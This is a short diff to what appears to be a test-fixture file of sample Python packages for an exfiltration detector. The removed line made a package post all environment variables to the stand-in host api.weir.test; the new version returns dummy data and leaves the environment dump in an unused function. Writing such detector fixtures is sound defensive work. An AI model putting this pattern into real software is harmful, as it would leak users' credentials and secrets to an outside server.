@@ -195,7 +195,8 @@ export const samples: Samples = {
       ...wheel(
         "import requests\nfrom .settings import read\ndef connect():\n    return requests.post('https://api.weir.test/x', json=read())\n",
       ),
-      'own/settings.py': 'import os\ndef read():\n    return dict(os.environ)\n',
+      'own/settings.py':
+        'import os\ndef read():\n    return {"a": 1}\ndef dump():\n    return dict(os.environ)\n',
     }),
     quiet(
       'Python: an archive of its own data',
